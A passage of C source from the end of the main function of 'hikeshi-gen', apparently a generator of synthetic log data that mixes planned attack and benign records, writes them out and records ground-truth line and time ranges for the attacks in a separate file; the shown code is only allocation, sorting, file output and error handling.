    g.pid_counter = (uint32_t)rng_below(&g.rng, 1u << 20);

    g.recs = malloc(g.nrec * sizeof(*g.recs));
    o.cap = 1u << 20;
    o.buf = malloc(o.cap);
    if (!g.recs || !o.buf) {
        fprintf(stderr, "hikeshi-gen: out of memory\n");
        return 1;
    }
    plan_attacks(&g);
    attack_lines = g.nrecs;
    if (g.overflow || attack_lines > g.nrec / 2) {
        fprintf(stderr, "hikeshi-gen: %" PRIu64 " records are too few for the attacks "
                        "(raise --records or lower attacks= in --mix)\n", g.nrec);
        return 2;
    }
    plan_benign(&g);
    qsort(g.recs, g.nrecs, sizeof(*g.recs), rec_cmp);
    number_sessions(&g);

    if (out_path) {
        o.fd = open(out_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (o.fd < 0) {
            fprintf(stderr, "hikeshi-gen: %s: %s\n", out_path, strerror(errno));
            return 1;
        }
    }
    for (uint64_t i = 0; i < g.nrecs; i++) {
        const struct rec *r = &g.recs[i];
        int32_t ti = g.units[r->unit].truth;

        out_room(&o);
        render(&o, &g, &tc, r);
        if (ti >= 0) {
            struct truth *t = &g.truth[ti];
            if (t->records++ == 0) {
                t->first_line = i + 1;
                t->first_us = r->t_us;
            }
            t->last_line = i + 1;
            t->last_us = r->t_us;
        }
    }
    out_flush(&o);
    if (out_path && close(o.fd) != 0) {
        perror("hikeshi-gen: close");
        return 1;
    }
    if (truth_path && write_truth(&g, truth_path, attack_lines) < 0)
        return 1;
    free(o.buf);
    free(g.recs);
    free(g.units);
    free(g.truth);
    return 0;

bad:
    fputs(usage, stderr);
    return 2;
}
